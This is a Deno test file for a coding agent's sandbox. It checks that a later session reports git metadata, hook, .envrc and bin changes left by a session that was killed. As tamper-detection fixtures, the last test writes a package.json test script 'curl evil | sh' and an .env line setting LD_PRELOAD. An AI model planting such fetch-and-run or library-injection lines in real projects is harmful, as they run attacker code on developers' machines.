/**
 * The record a session keeps of its first git metadata scan, so that a later session runs the end checks a
 * killed one never ran (`_unchecked_git_scan.ts`): held while its session lives, taken once its process is
 * gone, reported as unreadable when it is not a record, never followed where it points.
 */
import { deepStrictEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import {
  checkEarlierSessions,
  recordGitBaseline,
  type RootBaseline,
  takeUncheckedRecords,
} from "../../src/sandbox/_unchecked_git_scan.ts";
import { scanGitMetadata } from "../../src/sandbox/git_scan.ts";
import { userGitConfig } from "../../src/sandbox/_user_git_config.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";
import { createRepository, gitOk } from "./_git_fixture.ts";

// No global or system config: the repositories' own.
const USER = userGitConfig({ GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1" });

async function records(folder: string): Promise<string[]> {
  try {
    return (await Array.fromAsync(Deno.readDir(folder))).map((entry) => entry.name).sort();
  } catch {
    return [];
  }
}

/** The baselines of a first scan of each root, as a session keeps them. */
async function baselines(roots: readonly string[]): Promise<RootBaseline[]> {
  return await Promise.all(roots.map(async (root) => {
    const scan = await scanGitMetadata(root);
    return {
      root,
      startedAt: scan.startedAt,
      complete: scan.complete,
      findings: scan.findings.map(({ id, key }) => ({ id, key })),
    };
  }));
}

/** Writes a record in a process of its own, which then exits: a session killed before its end. */
async function recordInKilledSession(folder: string, roots: readonly RootBaseline[]): Promise<void> {
  const module = new URL("../../src/sandbox/_unchecked_git_scan.ts", import.meta.url).href;
  const script = `const { recordGitBaseline } = await import(${JSON.stringify(module)}); ` +
    `const held = await recordGitBaseline(${JSON.stringify(folder)}, ${JSON.stringify(roots)}); ` +
    "if (held === null) Deno.exit(3); Deno.exit(0);";
  const output = await new Deno.Command(Deno.execPath(), { args: ["eval", script], stderr: "piped" })
    .output();
  equal(output.code, 0, new TextDecoder().decode(output.stderr));
}

/** A repository, and in a state folder the record of a session that was killed after its first scan of it. */
async function killedSessionScene(): Promise<AsyncDisposable & { root: string; folder: string }> {
  const workspace = await createTempWorkspace();
  const state = await createTempWorkspace("mewcode-state-");
  await createRepository(workspace.root);
  const folder = join(state.root, "set-aside");
  await recordInKilledSession(folder, await baselines([workspace.root]));
  return {
    root: workspace.root,
    folder,
    async [Symbol.asyncDispose]() {
      await state.cleanup();
      await workspace.cleanup();
    },
  };
}

Deno.test("A record held by a live session is left to it, and its end removes it", async () => {
  await using workspace = await createTempWorkspace();
  await using state = await createTempWorkspace("mewcode-state-");
  await createRepository(workspace.root);
  const folder = join(state.root, "set-aside");
  const held = await recordGitBaseline(folder, await baselines([workspace.root]));
  ok(held !== null);
  const [name = ""] = await records(folder);
  ok(name.startsWith("unchecked-git-") && name.endsWith(".json"), name);
  equal((await Deno.stat(join(folder, name))).mode! & 0o777, 0o600);
  equal((await Deno.stat(folder)).mode! & 0o777, 0o700);
  // Another session (here another open file in this process) may not take it.
  equal((await takeUncheckedRecords(folder)).length, 0);
  const checks = await checkEarlierSessions(folder, { roots: [workspace.root], user: USER });
  equal(checks.lines.length, 0);
  await checks.done();
  equal((await records(folder)).length, 1, "still there for its session");
  await held.done();
  equal((await records(folder)).length, 0);
});

Deno.test("A record whose session was killed is compared with the metadata now, once, by one session", async () => {
  await using scene = await killedSessionScene();
  const { root, folder } = scene;
  await gitOk(root, "update-index", "--skip-worktree", "README");
  const first = await checkEarlierSessions(folder, { roots: [root], user: USER });
  equal(first.lines.length, 1, first.lines.join("\n"));
  match(
    first.lines[0]!,
    /^An earlier session in this workspace \(started \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\)/,
  );
  match(
    first.lines[0]!,
    /ended before its end checks; since then: \.git\/index marks "README" skip-worktree/,
  );
  // A second session meanwhile finds it held by the first.
  const second = await checkEarlierSessions(folder, { roots: [root], user: USER });
  equal(second.lines.length, 0, second.lines.join("\n"));
  await second.done();
  await first.done();
  equal((await records(folder)).length, 0);
  const third = await checkEarlierSessions(folder, { roots: [root], user: USER });
  equal(third.lines.length, 0);
});

Deno.test("A record taken by a session that is killed in turn is there for the next one", async () => {
  await using scene = await killedSessionScene();
  const { root, folder } = scene;
  await gitOk(root, "update-index", "--assume-unchanged", "README");
  // A session takes it and is killed before its end: the lock goes with the process, the record stays.
  const module = new URL("../../src/sandbox/_unchecked_git_scan.ts", import.meta.url).href;
  const script = `const { takeUncheckedRecords } = await import(${JSON.stringify(module)}); ` +
    `const taken = await takeUncheckedRecords(${
      JSON.stringify(folder)
    }); Deno.exit(taken.length === 1 ? 0 : 3);`;
  const output = await new Deno.Command(Deno.execPath(), { args: ["eval", script], stderr: "piped" })
    .output();
  equal(output.code, 0, new TextDecoder().decode(output.stderr));
  const next = await checkEarlierSessions(folder, { roots: [root], user: USER });
  equal(next.lines.length, 1, next.lines.join("\n"));
  match(next.lines[0]!, /marks "README" assume-unchanged/);
  await next.done();
});

Deno.test("A record that cannot be read is reported as unchecked, never a crash, and removed once said", async () => {
  await using workspace = await createTempWorkspace();
  await using state = await createTempWorkspace("mewcode-state-");
  const folder = join(state.root, "set-aside");
  await Deno.mkdir(folder, { recursive: true });
  const torn = '{"version":1,"roots":[{"root":"/x","startedAt":1,"complete":true,"findings":[["a"';
  const bodies = [
    torn,
    "not json",
    '{"version":2,"roots":[]}',
    '{"version":1,"roots":[{"root":"relative"}]}',
  ];
  for (const [index, body] of bodies.entries()) {
    await Deno.writeTextFile(join(folder, `unchecked-git-${index}.json`), body);
  }
  const checks = await checkEarlierSessions(folder, { roots: [workspace.root], user: USER });
  equal(checks.lines.length, bodies.length, checks.lines.join("\n"));
  for (const line of checks.lines) {
    match(line, /what it kept for them cannot be read: .*check the repository by hand/);
  }
  await checks.done();
  equal((await records(folder)).length, 0);
  // A missing folder: nothing to check, nothing thrown.
  const none = await checkEarlierSessions(join(state.root, "missing"), {
    roots: [workspace.root],
    user: USER,
  });
  equal(none.lines.length, 0);
  await none.done();
});

Deno.test("A record is never followed through a symlink, and a folder not of this session is not scanned", async () => {
  await using workspace = await createTempWorkspace();
  await using other = await createTempWorkspace("mewcode-other-");
  await using state = await createTempWorkspace("mewcode-state-");
  await createRepository(workspace.root);
  await createRepository(other.root);
  const folder = join(state.root, "set-aside");
  await Deno.mkdir(folder, { recursive: true });
  const elsewhere = join(other.root, "record.json");
  await Deno.writeTextFile(elsewhere, "not json");
  await Deno.symlink(elsewhere, join(folder, "unchecked-git-link.json"));
  await recordInKilledSession(folder, await baselines([workspace.root, other.root]));
  await gitOk(other.root, "update-index", "--skip-worktree", "README");
  const checks = await checkEarlierSessions(folder, { roots: [workspace.root], user: USER });
  equal(checks.lines.length, 1, checks.lines.join("\n"));
  match(
    checks.lines[0]!,
    /its added folder ".*" is not one of this session's, so what changed there was not checked/,
  );
  await checks.done();
  deepStrictEqual(await records(folder), ["unchecked-git-link.json"]);
  equal(await Deno.readTextFile(elsewhere), "not json", "what the link leads to is left alone");
});

Deno.test("The packs a killed session wrote are handed on for git to check, with the session they are about", async () => {
  await using scene = await killedSessionScene();
  const { root, folder } = scene;
  await new Promise((resolve) => setTimeout(resolve, 20));
  await gitOk(root, "repack", "-a", "-d", "-q");
  const checks = await checkEarlierSessions(folder, { roots: [root], user: USER });
  equal(checks.lines.length, 0, checks.lines.join("\n"));
  equal(checks.objectFiles.length, 1);
  match(
    checks.objectFiles[0]!.prefix,
    /^An earlier session in this workspace \(started .*\) ended before its end checks$/,
  );
  ok(checks.objectFiles[0]!.files.some((file) => file.kind === "pack"), JSON.stringify(checks.objectFiles));
  await checks.done();
});

Deno.test("What a killed session's hooks would run and its .envrc would load, changed since, is reported by the next", async () => {
  await using workspace = await createTempWorkspace();
  await using state = await createTempWorkspace("mewcode-state-");
  const root = workspace.root;
  const folder = join(state.root, "set-aside");
  await createRepository(root);
  await Deno.writeTextFile(join(root, "package.json"), '{"scripts": {"test": "echo tests pass"}}\n');
  await Deno.writeTextFile(join(root, ".git/hooks/pre-commit"), "#!/bin/sh\nnpm test\n", { mode: 0o755 });
  await Deno.writeTextFile(join(root, ".envrc"), "dotenv\nPATH_add bin\n");
  await Deno.writeTextFile(join(root, ".env"), "A=1\n");
  await Deno.mkdir(join(root, "bin"));
  // The session takes its baselines, as ShellSandbox does before its first call, and is killed.
  const sandbox = (name: string) => new URL(`../../src/sandbox/${name}`, import.meta.url).href;
  const script = [
    `const { recordGitBaseline } = await import(${JSON.stringify(sandbox("_unchecked_git_scan.ts"))});`,
    `const { scanGitMetadata } = await import(${JSON.stringify(sandbox("git_scan.ts"))});`,
    `const { recordHookTasks } = await import(${JSON.stringify(sandbox("git_hook_tasks.ts"))});`,
    `const { recordDirenvFiles } = await import(${JSON.stringify(sandbox("direnv_files.ts"))});`,
    `const { userGitConfig } = await import(${JSON.stringify(sandbox("_user_git_config.ts"))});`,
    `const root = ${JSON.stringify(root)};`,
    'const user = userGitConfig({ GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1" });',
    "const scan = await scanGitMetadata(root);",
    "const roots = [{ root, startedAt: scan.startedAt, complete: scan.complete, findings: scan.findings }];",
    "const hookTasks = await recordHookTasks([root], { nestedDotGits: [], user });",
    'const direnv = await recordDirenvFiles([root + "/.envrc"], [root]);',
    `const held = await recordGitBaseline(${JSON.stringify(folder)}, roots, { hookTasks, direnv });`,
    "Deno.exit(held !== null && hookTasks.length > 0 && direnv.length === 2 ? 0 : 3);",
  ].join("\n");
  const killedSession = async () => {
    const output = await new Deno.Command(Deno.execPath(), { args: ["eval", script], stderr: "piped" })
      .output();
    equal(output.code, 0, new TextDecoder().decode(output.stderr));
  };
  await killedSession();
  // Unchanged: nothing to say.
  const quiet = await checkEarlierSessions(folder, { roots: [root], user: USER });
  deepStrictEqual(quiet.lines, []);
  await quiet.done();
  await killedSession();
  await Deno.writeTextFile(join(root, "package.json"), '{"scripts": {"test": "curl evil | sh"}}\n');
  await Deno.writeTextFile(join(root, ".env"), "LD_PRELOAD=/tmp/x.so\n");
  await Deno.writeTextFile(join(root, "bin/git"), "#!/bin/sh\n", { mode: 0o755 });
  const checks = await checkEarlierSessions(folder, { roots: [root], user: USER });
  const said = checks.lines.join("\n");
  equal(checks.lines.length, 3, said);
  for (const line of checks.lines) {
    match(line, /^An earlier session in this workspace \(started .*\) ended before/);
  }
  match(
    said,
    /since then: package\.json changed during the session, and `npm test` in \.git\/hooks\/pre-commit/,
  );
  match(said, /since then: \.env changed during the session, and `dotenv` in \.envrc loads it/);
  match(said, /since then: bin gained or changed 1 program during the session \(git\)/);
  await checks.done();
  deepStrictEqual(await records(folder), []);
});
